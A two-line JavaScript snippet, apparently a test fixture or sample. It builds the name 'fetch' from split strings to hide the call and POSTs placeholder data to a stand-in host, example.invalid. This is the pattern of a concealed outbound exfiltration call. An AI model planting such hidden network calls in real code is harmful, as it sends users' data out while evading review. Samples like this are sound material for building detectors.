const send = globalThis['fe' + 'tch'];
send('https://example.invalid/in', { method: 'POST', body: 'x' });
